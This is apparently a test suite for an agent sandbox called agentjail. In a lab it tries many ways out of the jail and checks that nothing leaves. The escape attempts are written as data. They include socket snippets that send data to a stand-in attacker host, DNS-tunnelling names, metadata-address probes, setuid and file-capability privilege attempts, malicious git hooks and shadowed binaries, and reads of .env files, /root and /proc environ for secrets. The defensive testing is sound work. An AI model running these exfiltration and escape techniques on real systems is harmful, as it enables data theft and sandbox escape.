/**
 * Ways out of a jail, each tried in the lab in both isolations. The judge is the capture on the wire, a service's own
 * record, or the kernel's state; what the escaping program itself says only shows that it ran.
 */
import t, { type Test } from 'tap'
import { evil, wire } from '../lab/addresses.js'
import { damage, denyLine, firewall } from '../lab/firewall.js'
import type { RunOptions } from '../lab/host.js'
import { createLab, type Lab } from '../lab/lab.js'
import { spawnInternet } from '../lab/namespaces.js'
import type { Packet } from '../lab/pcap.js'

const policyPath = '/etc/agentjail/policies/escapes.yaml'
const policy = `version: 1
name: escapes
network:
  allow: [shared-a.example, plain.example]
limits: { pids: 100, openFiles: 256, tmp: 16MiB, memory: 1GiB }
`
const work = '/srv/work'
/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 300_000

interface Bench {
  readonly lab: Lab
  readonly isolation: 'namespace' | 'uid'
  readonly prefix: readonly string[]
  run(argv: readonly string[], options?: RunOptions): ReturnType<Lab['run']>
}

const python = (script: string) => ['python3', '-c', script]
/** Each statement on its own: one that is refused must not keep the next from trying. */
const tries = (...statements: string[]) =>
  python(
    `import socket, struct, os, sys, time\nsocket.setdefaulttimeout(2)\ndone = 0\n` +
      statements
        .map(
          (s) => `try:\n ${s.replaceAll('\n', '\n ')}\n done += 1\nexcept OSError as e: print(e)\n`,
        )
        .join('') +
      `print('tried', ${statements.length}, 'went through', done)`,
  )
const udp = (to: string, port: number, family = 'AF_INET', protocol = 0) =>
  `s = socket.socket(socket.${family}, socket.SOCK_DGRAM, ${protocol}); s.setsockopt(1, 6, 1); s.sendto(b'leak', ('${to}', ${port}))`
const tcp = (to: string, port: number, family = 'AF_INET', protocol = 0, before = '') =>
  `s = socket.socket(socket.${family}, socket.SOCK_STREAM, ${protocol})${before}; s.connect(('${to}', ${port})); s.sendall(b'leak'); s.recv(1)`

/** What may be on the wire: granted names at their addresses, and questions for them. */
const granted = new Set(['198.51.100.20', '198.51.100.30', '2001:db8:1::20', '2001:db8:1::30'])
const stray = (p: Packet) => {
  if (granted.has(p.src) || granted.has(p.dst)) return false
  return !['shared-a.example', 'plain.example'].includes(p.dnsName ?? '')
}

/** Title, the command that tries, what it prints if it ran at all. Nothing stray may be on the wire after it. */
const silent: readonly [title: string, argv: readonly string[], ran: RegExp][] = [
  [
    'echo requests with data, without privilege',
    tries(
      `s = socket.socket(2, 2, 1); s.sendto(bytes([8,0,0,0,0,0,0,1]) + b'leak', ('${evil.v4}', 0))`,
      `s = socket.socket(10, 2, 58); s.sendto(bytes([128,0,0,0,0,0,0,1]) + b'leak', ('${evil.v6}', 0))`,
    ),
    /tried 2 went through 0/,
  ],
  [
    'UDP-Lite',
    tries(udp(evil.v4, 9, 'AF_INET', 136), udp(evil.v6, 9, 'AF_INET6', 136)),
    /tried 2 went through 0/,
  ],
  [
    'UDP on usual ports, QUIC among them, both families',
    tries(
      ...[123, 443, 1194, 5353, 51820].flatMap((port) => [
        udp(evil.v4, port),
        udp(evil.v6, port, 'AF_INET6'),
      ]),
    ),
    /tried 10/,
  ],
  [
    'port 53 that is not DNS: the attacker, the metadata address, broadcast, multicast',
    tries(
      ...[evil.v4, '169.254.169.254', '255.255.255.255', '224.0.0.251', wire.internet4].map((to) =>
        udp(to, 53),
      ),
      udp(evil.v6, 53, 'AF_INET6'),
      tcp(evil.v4, 53),
    ),
    /tried 7/,
  ],
  [
    'data in names, through the resolver it was given',
    [
      'sh',
      '-c',
      `for q in A AAAA TXT NULL MX CNAME HTTPS; do dig +tries=1 +time=2 $q 6c65616b.t.evil.example; dig +tries=1 +time=2 $q 6c65616b.shared-a.example; done; getent hosts 6c65616b.evil.example; echo ran`,
    ],
    /ran/,
  ],
  [
    'announcements of groups by the kernel (IGMP, MLD)',
    tries(
      `s = socket.socket(2, 2, 0); s.setsockopt(0, 35, socket.inet_aton('239.1.2.3') + socket.inet_aton('${wire.host4}'))\ntime.sleep(1)`,
      `s = socket.socket(10, 2, 0); s.setsockopt(41, 20, socket.inet_pton(10, 'ff05::1:3') + struct.pack('i', socket.if_nametoindex('eth0')))\ntime.sleep(1)`,
    ),
    /tried 2/,
  ],
  [
    'TCP by address: other ports, IPv6, mapped, Multipath, fast open, bound to the device, source-routed',
    tries(
      ...[22, 25, 80, 443, 8080].map((port) => tcp(evil.v4, port)),
      tcp(evil.v6, 8080, 'AF_INET6'),
      tcp(`::ffff:${evil.v4}`, 8080, 'AF_INET6'),
      tcp(evil.v4, 8080, 'AF_INET', 262),
      `s = socket.socket(); s.sendto(b'leak', 0x20000000, ('${evil.v4}', 8080))`,
      tcp(evil.v4, 8080, 'AF_INET', 0, `; s.setsockopt(1, 25, b'eth0')`),
      tcp(
        evil.v4,
        8080,
        'AF_INET',
        0,
        `; s.setsockopt(0, 4, bytes([131,7,4]) + socket.inet_aton('${evil.v4}') + b'\\x01')`,
      ),
      tcp('169.254.169.254', 80),
    ),
    /tried 12/,
  ],
  [
    'from the first instruction on: the rules are there before the program',
    [
      'perl',
      '-MSocket',
      '-e',
      `socket(S, 2, 2, 0); send(S, 'leak', 0, pack_sockaddr_in(51820, inet_aton('${evil.v4}'))) for 1 .. 500; print 'ran'`,
    ],
    /ran/,
  ],
  [
    'sockets below IP and beside it',
    tries(
      ...[
        '17, 3, 768',
        '17, 2, 768',
        '40, 1, 0',
        '38, 5, 0',
        '2, 3, 255',
        '10, 3, 58',
        '16, 2, 4',
      ].map((arguments_) => `socket.socket(${arguments_})`),
    ),
    /tried 7 went through 0/,
  ],
  [
    'new namespaces, with a kernel of capabilities in them',
    [
      'sh',
      '-c',
      `for o in -U -Ur -n -m -p -i; do unshare $o true && echo OPEN; done; unshare -Urn true && echo OPEN; echo ran`,
    ],
    /^ran$/m,
  ],
]

const silentRows = async (t: Test, { lab, run }: Bench) => {
  for (const [title, argv, ran] of silent) {
    await lab.capture.clear()
    const { stdout, stderr } = await run(argv, { timeout: 60_000 })
    t.match(stdout, ran, `${title}: it ran: ${stderr.slice(0, 300)}`)
    t.notMatch(stdout, /OPEN/, title)
    t.same(await lab.capture.packets(stray), [], `${title}: nothing on the wire`)
  }
}

/** The lab is no judge if it could not see: the same from another user arrives. */
const captureSees = async (t: Test, { lab }: Bench) => {
  await lab.capture.clear()
  await lab.run(tries(udp(evil.v4, 443), udp(evil.v6, 9, 'AF_INET6', 136), tcp(evil.v4, 8080)))
  const protos = new Set((await lab.capture.packets(stray)).map(({ proto }) => proto))
  // Answers to sockets that are closed by now bring errors back: let them pass before anything is judged.
  await new Promise((resolve) => setTimeout(resolve, 500))
  t.ok(protos.has('udp') && protos.has('tcp') && protos.has('136'), [...protos].join(' '))
}

const otherSite = async (t: Test, { lab, run }: Bench) => {
  lab.internet.evil.received = []
  for (const how of [
    ['--connect-to', 'cdn-evil.example:443:shared-a.example:443'],
    ['--resolve', 'cdn-evil.example:443:198.51.100.20'],
  ]) {
    const { code } = await run(['curl', '-sSk', '-m', '8', ...how, 'https://cdn-evil.example/x'])
    t.not(code, 0, how.join(' '))
  }
  const bare = await run(['curl', '-sSk', '-m', '8', 'https://198.51.100.20/'])
  t.not(bare.code, 0, 'no server name')
  await lab.sync()
  t.same(
    lab.internet.evil.received,
    [],
    "nothing reached the attacker's site on the shared address",
  )
  const good = await run(['curl', '-sS', '-m', '8', 'https://shared-a.example/'])
  t.equal(good.code, 0, `while the granted site on it works: ${good.stderr}`)
}

/** Services of other users: TCP on loopback and the host's address, unix sockets; each records who came. */
const services = `
const net = require('net'), fs = require('fs')
for (const d of ['/run/systemd/resolve', '/run/dbus', '/run/nscd']) fs.mkdirSync(d, { recursive: true })
const serve = (at) => new Promise((r) => net.createServer((s) => { if (at !== '/run/nscd/socket') console.log('came', JSON.stringify(at)); s.end('here\\n'); s.on('error', () => 0) }).listen(at, r))
const udp = require('dgram').createSocket('udp4').on('message', () => console.log('came udp'))
Promise.all([{ host: '127.0.0.1', port: 3128 }, { host: '::1', port: 3128 }, { host: '${wire.host4}', port: 3129 },
  '/run/systemd/resolve/io.systemd.Resolve', '/run/dbus/system_bus_socket', '/run/nscd/socket', '/run/docker.sock', '/srv/public.sock', '\\0other-users'].map(serve))
  .then(() => { for (const p of ['/run/systemd/resolve/io.systemd.Resolve', '/run/dbus/system_bus_socket', '/run/nscd/socket', '/run/docker.sock', '/srv/public.sock']) fs.chmodSync(p, 0o777)
    udp.bind(3128, '127.0.0.1', () => console.log('up')) })`
const unix = (path: string) =>
  `s = socket.socket(1); s.connect(${path}); print('REACHED', s.recv(9))`

const neighbours = async (t: Test, { lab, run }: Bench) => {
  const service = lab.spawn(['node', '-e', services], { timeout })
  await service.until(/up/)
  const before = service.stdout()
  const { stdout, stderr } = await run(
    tries(
      tcp('127.0.0.1', 3128),
      tcp('::1', 3128, 'AF_INET6'),
      tcp(wire.host4, 3129),
      tcp('0.0.0.0', 3128),
      udp('127.0.0.1', 3128),
      ...[
        'systemd/resolve/io.systemd.Resolve',
        'dbus/system_bus_socket',
        'nscd/socket',
        'docker.sock',
      ].map((name) => unix(`'/run/${name}'`)),
      unix(`'/srv/public.sock'`),
    ),
  )
  t.match(stdout, /tried 10/, stderr)
  t.equal(service.stdout(), before, 'no service saw anybody')
  // The name service's socket is also asked by the host's own programs: here the command's word counts.
  t.notMatch(stdout, /REACHED/, 'nor the name service')
  await run(tries(unix(`'\\0other-users'.ljust(108, '\\0')`)))
  t.equal(service.stdout(), before, 'nor does one on an abstract socket')
  service.kill('SIGKILL')
  await service.ended
}

const inbound = async (t: Test, { lab, prefix }: Bench) => {
  const listen = `import socket, select, time
u = socket.socket(2, 2); u.bind(('0.0.0.0', 7001)); s = socket.socket(); s.bind(('0.0.0.0', 7002)); s.listen(); print('up', flush=True)
end = time.time() + 4
while time.time() < end:
  for r in select.select([u, s], [], [], 0.2)[0]:
    if r is u:
      print('UDP', u.recv(99), flush=True)
      try: u.sendto(b'reply', ('${wire.internet4}', 7003))
      except OSError: pass
    else: print('TCP', s.accept()[0].recv(99), flush=True)
print('end')`
  const jail = lab.spawnAgentjail([...prefix, '--', ...python(listen)], {
    cwd: work,
    timeout: 60_000,
  })
  await jail.until(/up/)
  await lab.capture.clear()
  const knock = `use Socket; socket(U, 2, 2, 0); for (1 .. 5) { send(U, 'command', 0, pack_sockaddr_in(7001, inet_aton('${wire.host4}')));
    socket(T, 2, 1, 0); $SIG{ALRM} = sub {}; alarm 1; connect(T, pack_sockaddr_in(7002, inet_aton('${wire.host4}'))) and syswrite T, 'command'; close T; select undef, undef, undef, 0.1 }`
  const sender = spawnInternet(lab.sides, ['perl', '-e', knock], ['ignore', 'ignore', 'inherit'])
  await new Promise((resolve) => sender.on('exit', resolve))
  const { stdout } = await jail.ended
  t.match(stdout, /end/)
  t.notMatch(stdout, /TCP b/, 'no connection comes in')
  // With iptables in isolation uid they do: docs/iptables.md, "What differs".
  const isOpen = firewall !== 'nftables' && prefix.includes('uid')
  t.equal(/UDP b/.test(stdout), isOpen, isOpen ? 'a datagram comes in' : 'no datagram comes in')
  const answers = await lab.capture.packets((p) => p.src === wire.host4 && p.sport !== undefined)
  const leaks = answers.filter((p) => p.proto === 'udp' || !p.flags.rst)
  t.same(leaks, [], 'and nothing but resets goes back')
}

/** In root's workspace: perl set-user-ID root, and with file capabilities, as first program and as a later one. */
const privileged = async (t: Test, { lab, run }: Bench) => {
  await lab.run(['cp', '/usr/bin/perl', `${work}/suid-perl`])
  await lab.run(['chmod', '4755', `${work}/suid-perl`])
  await lab.run(['cp', '/usr/bin/perl', `${work}/cap-perl`])
  const set = ['setcap', 'cap_net_raw,cap_setuid,cap_net_admin+ep', `${work}/cap-perl`]
  t.equal((await lab.run(set)).code, 0, 'setcap (Debian: libcap2-bin)')
  const act =
    `-MSocket -e $)=0;$>=0;print"euid=$> ";socket(R,2,3,1)&&print"RAW";socket(P,17,3,0)&&print"PACKET";socket(U,2,2,0);send(U,"leak",0,pack_sockaddr_in(51820,inet_aton("${evil.v4}")));open(F,"/proc/self/status");print(grep(/^Cap|^Seccomp:|^NoNew/,<F>))`.split(
      ' ',
    )
  const script = ['-MSocket', '-e', act.slice(2).join(' ')]
  for (const [title, argv] of [
    ['set-user-ID, first', [`${work}/suid-perl`, ...script]],
    ['set-user-ID, later', ['sh', '-c', '"$@"; echo', 'sh', `${work}/suid-perl`, ...script]],
    ['file capabilities, first', [`${work}/cap-perl`, ...script]],
    ['file capabilities, later', ['sh', '-c', '"$@"; echo', 'sh', `${work}/cap-perl`, ...script]],
    ['none', ['perl', ...script]],
  ] as const) {
    await lab.capture.clear()
    const { stdout } = await run(argv)
    t.notMatch(stdout, /euid=0 |RAW|PACKET/, title)
    if (stdout !== '\n' && stdout !== '') {
      t.match(stdout, /CapBnd:\s0{16}/, `${title}: bounding set`)
      t.match(stdout, /CapEff:\s0{16}/, `${title}: effective set`)
      t.match(stdout, /NoNewPrivs:\s1/, title)
      t.match(stdout, /Seccomp:\s2/, title)
    }
    t.same(await lab.capture.packets(stray), [], `${title}: nothing on the wire`)
  }
  const left = await run([
    'sh',
    '-c',
    `cp /usr/bin/id ${work}/left; chmod 6755 ${work}/left; ls -l ${work}/left`,
  ])
  t.match(left.stdout, /^-rwxr/, 'no set-user-ID file is left for the caller')
}

/** Under the jail's uid, but not of a running jail: what cron, at, a user's systemd or a leftover would be. */
const laterOutside = async (t: Test, { lab, run }: Bench) => {
  const { stdout } = await run(['id', '-u'])
  const uid = Number(stdout)
  t.ok(uid >= 1_900_000_000, stdout)
  const shadow = (await lab.run(['sh', '-c', 'getent shadow aj-escapes'])).stdout.trim().split(':')
  t.match(shadow[1], /^[!*]/, 'the password is locked')
  t.match(shadow[7], /^1$/, 'the account is expired: cron and at do not start its jobs')
  await lab.capture.clear()
  const as = ['setpriv', `--reuid=${uid}`, `--regid=${uid}`, '--clear-groups', '--']
  const { stdout: tried } = await lab.run([
    ...as,
    ...tries(
      udp(evil.v4, 443),
      tcp(evil.v4, 443),
      tcp(evil.v6, 443, 'AF_INET6'),
      udp(wire.internet4, 53),
    ),
  ])
  t.match(tried, /tried 4 went through 0/)
  t.same(await lab.capture.packets(stray), [], 'no network without a running jail')
  const holder = lab.spawn([...as, 'sleep', '60'], { timeout: 60_000 })
  for (let i = 0; i < 100 && lab.processesOf(uid).length === 0; i++)
    await new Promise((r) => setTimeout(r, 20))
  const removal = await lab.agentjail(['account', 'remove', 'escapes'])
  const passwd = await lab.run(['getent', 'passwd', 'aj-escapes'])
  t.ok(
    passwd.code !== 0 ? lab.processesOf(uid).length === 0 : removal.code !== 0,
    `an account with a process is not removed: ${removal.stderr}`,
  )
  const start = await run(['true'])
  if (lab.processesOf(uid).length > 0) t.equal(start.code, 125, 'and no jail starts beside it')
  holder.kill('SIGKILL')
  await holder.ended
}

/** Sends to the attacker for ever, by UDP and TCP; says whose it is. */
const sending = `import os, socket, time
print('as', os.getuid(), os.geteuid(), flush=True)
while True:
  for kind, to in ((2, ('${evil.v4}', 443)), (1, ('${evil.v4}', 443)), (1, ('${evil.v6}', 443, 0, 0))):
    s = socket.socket(10 if len(to) > 2 else 2, kind); s.settimeout(1)
    try:
      s.connect(to); s.send(b'leak')
    except OSError: pass
    s.close()
  time.sleep(0.01)`

/**
 * Another user's process that has the jail's uid as its effective one alone, by a set-user-ID file that root made (no jail
 * can): it is no process of the jail's, and has no more network than that has, before, in, and after a run.
 */
const borrowed = async (t: Test, { lab, run, prefix }: Bench) => {
  const uid = Number((await run(['id', '-u'])).stdout)
  const file = '/srv/as-the-jail'
  const make = `cp "$(readlink -f "$(command -v python3)")" ${file} && chown ${uid} ${file} && chmod 4755 ${file}`
  t.equal((await lab.run(['sh', '-c', make])).code, 0)
  const other = 4711
  const as = ['setpriv', `--reuid=${other}`, `--regid=${other}`, '--clear-groups', '--', file]
  await lab.capture.clear()
  const program = lab.spawn([...as, '-c', sending], { timeout: 60_000 })
  t.match(await program.until(/as \d+ \d+/), new RegExp(`as ${other} ${uid}`))
  const jail = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', 'echo up; sleep 1; exit 7'], {
    cwd: work,
    timeout: 60_000,
  })
  await jail.until(/up/)
  const { code, stderr } = await jail.ended
  t.equal(code, 7, `a jail starts and ends beside it: ${stderr}`)
  t.ok(program.pid(), 'which is nobody of its own, and goes on')
  t.same(await lab.capture.packets(stray), [], 'nothing on the wire')
  program.kill('SIGKILL')
  await program.ended
  await lab.run(['rm', file])
}

/** A daemon that clears its own death signal and sends for ever: gone with the launcher, however that ends. */
const outliving = async (t: Test, { lab, prefix }: Bench) => {
  const daemon = `use Socket; fork and do { $| = 1; print "up\n"; sleep 60; exit }; setpgrp; syscall(157, 1, 0, 0, 0, 0); fork and exit; socket(U, 2, 2, 0);
    while (1) { send(U, 'leak', 0, pack_sockaddr_in(51820, inet_aton('${evil.v4}'))); select undef, undef, undef, 0.01 }`
  for (const signal of ['SIGKILL', 'SIGTERM'] as const) {
    const jail = lab.spawnAgentjail([...prefix, '--', 'perl', '-e', daemon], {
      cwd: work,
      timeout: 60_000,
    })
    await jail.until(/up/)
    await lab.capture.clear()
    const ours = () => lab.processes().filter(({ uid }) => uid >= 1_900_000_000)
    t.ok(ours().length > 1, 'there is something to outlive it')
    jail.kill(signal)
    await jail.ended
    for (let i = 0; i < 250 && ours().length > 0; i++) await new Promise((r) => setTimeout(r, 20))
    t.same(ours(), [], `${signal}: every process is gone`)
    t.same(await lab.capture.packets(stray), [], `${signal}: nothing on the wire, before or after`)
    t.equal((await lab.agentjail(['gc'])).code, 0)
  }
}

/** Another tool flushes the host's firewall while the command sends. */
const flushed = async (t: Test, { lab, prefix }: Bench) => {
  const loop = `use Socket; $| = 1; socket(U, 2, 2, 0); print "up\n"; while (1) { send(U, 'leak', 0, pack_sockaddr_in(51820, inet_aton('${evil.v4}')));
    socket(T, 2, 1, 0); connect(T, pack_sockaddr_in(8080, inet_aton('${evil.v4}'))); close T; select undef, undef, undef, 0.01 }`
  const jail = lab.spawnAgentjail([...prefix, '--', 'perl', '-e', loop], {
    cwd: work,
    timeout: 60_000,
  })
  await jail.until(/up/)
  await lab.capture.clear()
  await lab.run(damage.everything)
  const isBack = async () => (await lab.rules()).includes(denyLine)
  for (let i = 0; i < 50 && !(await isBack()); i++) await new Promise((r) => setTimeout(r, 200))
  t.ok(await isBack(), 'the deny of the range comes back while the command runs')
  jail.kill('SIGTERM')
  await jail.ended
  t.same(await lab.capture.packets(stray), [], 'nothing on the wire')
}

const secrets = async (t: Test, { lab, isolation, run }: Bench) => {
  lab.writeFile('/home/alice/.env', 'KEY=secret-of-alice\n')
  lab.writeFile(`${work}/.env`, 'KEY=secret-of-work\n')
  lab.writeFile('/root/secret', 'secret-of-root\n')
  lab.writeFile('/tmp/host-tmp', 'secret-of-tmp\n')
  await lab.run([
    'sh',
    '-c',
    `chmod 755 /home/alice; cd ${work} && git init -q . 2>/dev/null; ipcmk -M 4096 -p 666; ipcmk -Q -p 666`,
  ])
  const other = lab.spawn(['sh', '-c', 'sleep 50; : secret-in-arguments'], { timeout: 60_000 })
  const look = `cat /home/alice/.env ${work}/.env /root/secret /tmp/host-tmp /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\n' | grep -a '[s]ecret-'
    env | grep -a 'CALLER_\|SSH_AUTH\|NODE_OPTIONS\|AWS_' ; cat <&27 2>/dev/null; cat <&9 2>/dev/null; ls /proc/$$/fd > /dev/shm/fds; grep -v 255 /dev/shm/fds | tr '\n' ' '; echo; ipcs -mq | grep -c 0x; id -G | wc -w; ulimit -c; ulimit -n; echo ran`
  const outer = `exec 9</root/secret 27</root/secret; exec setpriv --groups 4,27 node "$@"`
  const { stdout, stderr } = await lab.run(
    ['bash', '-c', outer, 'bash', ...(await argvOf(isolation)), 'bash', '-c', look],
    {
      cwd: work,
      env: {
        CALLER_KEY: 'secret-of-caller',
        AWS_SECRET_ACCESS_KEY: 'secret-aws',
        SSH_AUTH_SOCK: '/tmp/x',
      },
    },
  )
  t.equal(
    stdout,
    '0 1 2 \n0\n1\n0\n256\nran\n',
    `files, environments, arguments, descriptors, IPC, groups, limits: ${stderr}`,
  )
  other.kill('SIGKILL')
  await run([
    'sh',
    '-c',
    `cd ${work}; echo 'touch /tmp/pwned' > .git/hooks/pre-commit; git config core.fsmonitor 'touch /tmp/pwned'; mv .git .git2; mkdir -p node_modules/.bin; for n in nft ip bwrap perl node setpriv; do printf '#!/bin/sh\ntouch /pwned\n' > node_modules/.bin/$n; chmod +x node_modules/.bin/$n; done; ln -s /etc/shadow "$HOME/.bashrc"; ln -s /etc "$HOME/etc"`,
  ])
  await lab.run(['sh', '-c', `cd ${work} && git status && git commit --allow-empty -qm x`])
  const again = await lab.run([process.execPath, ...(await argvOf(isolation)), 'true'], {
    cwd: work,
    env: { PATH: `${work}/node_modules/.bin:/usr/sbin:/usr/bin:/sbin:/bin` },
  })
  t.equal(again.code, 0, again.stderr)
  t.equal(
    (await lab.run(['ls', '/pwned', '/tmp/pwned'])).stdout,
    '',
    "nothing of the jail's ran as the caller or root",
  )
  const unsafe = await lab.run([
    'sh',
    '-c',
    `mkdir -p /srv/open && chmod 777 /srv/open && echo 'version: 1' > /srv/open/p.yaml`,
  ])
  t.equal(unsafe.code, 0)
  const refused = await lab.agentjail(['run', '-p', '/srv/open/p.yaml', '--', 'true'])
  t.equal(refused.code, 125, `a policy that others can replace: ${refused.stderr}`)
  const shadow = lab.readFile('/etc/shadow')
  await lab.agentjail(['account', 'remove', 'escapes'])
  t.match(shadow, /^root:/, 'links in the home lead nowhere')
  t.equal(lab.readFile('/etc/passwd').startsWith('root:'), true)
}

const argvOf = async (isolation: string): Promise<string[]> => {
  const { agentjailPath } = await import('../lab/paths.js')
  return [agentjailPath, 'run', '-q', '--policy', policyPath, '--isolation', isolation, '--']
}

const resources = async (t: Test, { lab, prefix, run }: Bench) => {
  const forks = await run([
    'perl',
    '-e',
    'my $n = 0; $SIG{CHLD} = "IGNORE"; while ($n < 300) { my $p = fork; last unless defined $p; if (!$p) { sleep 5; exit } $n++ } print "forks $n\n"; kill 9, -$$',
  ])
  t.match(forks.stdout, /forks \d{1,2}\n/, 'processes: at most those of the policy')
  const fill = await run(['sh', '-c', 'head -c 64M /dev/zero > /tmp/x; stat -c %s /tmp/x'])
  t.equal(Number(fill.stdout), 16 * 1024 * 1024, '/tmp: at most that of the policy')
  const tty = lab.spawnAgentjail(
    [
      ...prefix,
      '--',
      'perl',
      '-e',
      'my $x = "x"; print ioctl(STDIN, 0x5412, $x) ? "TYPED" : "refused $!\n"; my $y = pack "C", 2; print ioctl(STDIN, 0x541c, $y) ? "TYPED" : "refused $!\n"',
    ],
    { cwd: work, tty: true, timeout: 30_000 },
  )
  const { stdout } = await tty.ended
  t.match(
    stdout,
    /refused Operation not permitted\s+refused Operation not permitted/,
    "nothing is typed into the caller's terminal",
  )
  const keys = await run(['perl', '-e', 'print syscall(250, 0, -3, 0) < 0 ? "none" : "keys"'])
  t.equal(keys.stdout, 'none', 'no keyring of the caller')
}

t.setTimeout(3 * timeout)
for (const isolation of ['namespace', 'uid'] as const) {
  t.test(isolation, { timeout: 2 * timeout }, async (t) => {
    const lab = await createLab()
    t.teardown(() => lab.close())
    lab.writeFile(policyPath, policy)
    lab.writeFile(`${work}/README`, 'a workspace\n')
    await lab.run(['sysctl', '-q', '-w', 'net.ipv4.ping_group_range=0 2147483647'])
    const prefix = ['run', '--policy', policyPath, '--isolation', isolation]
    const run = (argv: readonly string[], options: RunOptions = {}) =>
      lab.agentjail([...prefix, '--', ...argv], { cwd: work, ...options })
    const bench: Bench = { lab, isolation, prefix, run }
    const rows: [title: string, test: (t: Test, bench: Bench) => Promise<void>][] = [
      ['the capture sees what leaves', captureSees],
      ['nothing leaves', silentRows],
      ["another site's name at a granted address", otherSite],
      ['services of other users on this host', neighbours],
      ['from outside to the command', inbound],
      ['programs with privilege', privileged],
      ['the uid without its jail', laterOutside],
      ["the jail's uid as another user's effective one", borrowed],
      ['what outlives the launcher', outliving],
      ["another tool's flush of the firewall", flushed],
      ['files, environments, descriptors and the caller', secrets],
      ['resources and the terminal', resources],
    ]
    for (const [title, test] of rows) await t.test(title, { timeout }, (t) => test(t, bench))
  })
}
